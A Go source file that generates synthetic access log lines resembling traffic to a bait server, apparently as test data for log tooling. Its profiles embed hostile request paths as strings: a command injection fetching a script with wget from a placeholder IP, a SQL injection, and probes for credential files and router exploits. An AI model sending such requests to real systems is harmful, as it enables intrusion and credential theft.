package main

import (
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/google/uuid"
)

const timeLayout = "02/Jan/2006:15:04:05 -0700"

type profile struct {
	userAgent string
	paths     []string
	status    int
}

// Traffic mixes resembling what an internet-facing bait server receives.
var profiles = []profile{
	{userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", paths: []string{"/", "/robots.txt", "/sitemap.xml"}, status: 200},
	{userAgent: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", paths: []string{"/", "/about"}, status: 200},
	{userAgent: "curl/7.68.0", paths: []string{"/.env", "/.git/config", "/"}, status: 404},
	{userAgent: "python-requests/2.28.0", paths: []string{"/wp-admin/", "/wp-login.php", "/xmlrpc.php"}, status: 404},
	{userAgent: "Go-http-client/1.1", paths: []string{"/api/v1/", "/actuator/health", "/.aws/credentials"}, status: 404},
	{userAgent: "Mozilla/5.0 zgrab/0.x", paths: []string{"/", "/phpmyadmin/"}, status: 404},
	{userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)", paths: []string{"/index.php?id=1%20union%20select%201,2,3"}, status: 500},
	{userAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", paths: []string{"/", "/favicon.ico", "/cgi-bin/luci/;stok=/locale"}, status: 200},
	{userAgent: "-", paths: []string{"/shell?cd+/tmp;wget+http://203.0.113.66/x.sh", "/boaform/admin/formLogin"}, status: 404},
}

// Generator produces synthetic access log lines.
type Generator struct {
	rng       *rand.Rand
	malformed float64
	now       func() time.Time
}

// NewGenerator returns a generator emitting a malformed line with
// probability malformed.
func NewGenerator(seed uint64, malformed float64) *Generator {
	return &Generator{
		rng:       rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)),
		malformed: malformed,
		now:       time.Now,
	}
}

// Line returns one newline-terminated access log line.
func (g *Generator) Line() string {
	ip := fmt.Sprintf("%d.%d.%d.%d", 1+g.rng.IntN(223), g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254))
	ts := g.now().Format(timeLayout)

	if g.rng.Float64() < g.malformed {
		return fmt.Sprintf("%s - - [%s] \\x16\\x03\\x01 garbage without request\n", ip, ts)
	}

	p := profiles[g.rng.IntN(len(profiles))]
	path := p.paths[g.rng.IntN(len(p.paths))]
	referer := "-"
	if g.rng.IntN(10) == 0 {
		referer = "http://bait.example/?rid=" + uuid.NewString()
	}
	return fmt.Sprintf("%s - - [%s] \"GET %s HTTP/1.1\" %d %d \"%s\" \"%s\"\n",
		ip, ts, path, p.status, g.rng.IntN(4096), referer, p.userAgent)
}
